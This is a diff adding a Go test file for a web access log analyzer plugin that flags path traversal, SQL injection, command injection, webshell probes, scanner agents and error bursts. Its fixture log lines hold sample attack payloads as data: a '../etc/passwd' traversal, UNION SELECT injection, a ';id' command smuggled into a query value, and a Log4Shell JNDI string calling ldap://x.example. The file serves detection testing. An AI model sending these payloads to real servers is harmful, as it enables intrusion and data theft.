@@ -0,0 +1,113 @@
+package system
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/ipsix/arcsent/internal/storage"
+)
+
+func TestParseWebRequest(t *testing.T) {
+	request, ok := parseWebRequest(`203.0.113.7 - - [10/Oct/2026:13:55:36 +0000] "GET /index.php?id=1%27%20UNION%20SELECT%201 HTTP/1.1" 200 512 "-" "sqlmap/1.7 (https://sqlmap.org)"`, "auto")
+	if !ok || request.Source != "203.0.113.7" || request.Status != 200 || request.Method != "GET" || !strings.HasPrefix(request.UserAgent, "sqlmap") {
+		t.Fatalf("unexpected combined request: %+v", request)
+	}
+	if request.Time.IsZero() || request.Decoded() != "/index.php?id=1' union select 1" {
+		t.Fatalf("unexpected decoding: %q %v", request.Decoded(), request.Time)
+	}
+	request, ok = parseWebRequest(`{"time_iso8601":"2026-10-10T13:55:36+00:00","remote_addr":"2001:db8::1","request":"GET /../../etc/passwd HTTP/1.1","status":"404","http_user_agent":"curl/8.0"}`, "auto")
+	if !ok || request.Source != "2001:db8::1" || request.Status != 404 || request.Target != "/../../etc/passwd" {
+		t.Fatalf("unexpected json request: %+v", request)
+	}
+	if _, ok := parseWebRequest("not a log line", "auto"); ok {
+		t.Fatalf("expected garbage to be rejected")
+	}
+
+	// A malformed escape must not stop the rest of the target being decoded.
+	request, ok = parseWebRequest(`203.0.113.8 - - [10/Oct/2026:13:55:37 +0000] "GET /item?x=%zz&id=1%20union%20select%201%2 HTTP/1.1" 200 64 "-" "Mozilla/5.0"`, "auto")
+	if !ok || request.Decoded() != "/item?x=%zz&id=1 union select 1%2" {
+		t.Fatalf("unexpected lenient decoding: %q", request.Decoded())
+	}
+	if categories := (&WebAccessLog{}).classify(request); strings.Join(categories, ",") != webSQLInjection {
+		t.Fatalf("escape bypass not classified as %s: %v", webSQLInjection, categories)
+	}
+}
+
+func TestWebAccessLog(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "access.log")
+	line := func(ip, target string, status int, agent string) string {
+		return fmt.Sprintf(`%s - - [10/Oct/2026:13:55:36 +0000] "GET %s HTTP/1.1" %d 10 "-" "%s"`, ip, target, status, agent)
+	}
+	lines := []string{
+		line("198.51.100.1", "/download?file=..%2f..%2fetc%2fpasswd", 400, "Mozilla/5.0"),
+		line("198.51.100.1", "/download?file=....//....//etc/passwd", 200, "Mozilla/5.0"),
+		line("198.51.100.2", "/item?id=1%20or%201=1", 500, "Mozilla/5.0"),
+		line("198.51.100.3", "/ping?host=127.0.0.1;id", 200, "Mozilla/5.0"),
+		line("198.51.100.4", "/", 200, "${jndi:ldap://x.example/a}"),
+		line("198.51.100.5", "/wp-content/uploads/shell.php", 404, "Nikto/2.5"),
+		line("10.0.0.9", "/shell.php", 200, "internal-check"),
+		line("198.51.100.6", "/about", 200, "Mozilla/5.0"),
+	}
+	for i := 0; i < 3; i++ {
+		lines = append(lines, line("198.51.100.7", fmt.Sprintf("/missing-%d", i), 404, "Mozilla/5.0"))
+	}
+	if err := os.WriteFile(path, []byte(strings.Join(lines, "\n")+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	store, err := storage.NewBadgerStore(filepath.Join(t.TempDir(), "badger"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer store.Close()
+
+	plugin := &WebAccessLog{}
+	plugin.WithStore(store)
+	if err := plugin.Init(map[string]interface{}{
+		"paths":           []interface{}{path, filepath.Join(dir, "missing.log")},
+		"error_threshold": float64(3),
+		"ignore_sources":  []interface{}{"10.0.0.0/8"},
+	}); err != nil {
+		t.Fatal(err)
+	}
+	result, err := plugin.Run(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]int{}
+	for _, finding := range result.Findings {
+		got[finding.ID+" "+finding.Evidence["source_ip"].(string)] = finding.Evidence["requests"].(int)
+	}
+	want := map[string]int{
+		"web_path_traversal 198.51.100.1":    2,
+		"web_sql_injection 198.51.100.2":     1,
+		"web_command_injection 198.51.100.3": 1,
+		"web_command_injection 198.51.100.4": 1,
+		"web_webshell_probe 198.51.100.5":    1,
+		"web_scanner_agent 198.51.100.5":     1,
+		"web_error_burst 198.51.100.7":       3,
+	}
+	if len(got) != len(want) {
+		t.Fatalf("unexpected findings: %v", got)
+	}
+	for key, count := range want {
+		if got[key] != count {
+			t.Fatalf("expected %s with %d requests, got %v", key, count, got)
+		}
+	}
+	if result.Metadata["missing_paths"] == nil || result.Metadata["requests_parsed"] != len(lines) {
+		t.Fatalf("unexpected metadata: %+v", result.Metadata)
+	}
+
+	result, err = plugin.Run(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(result.Findings) != 0 {
+		t.Fatalf("expected no findings without new lines, got %+v", result.Findings)
+	}
+}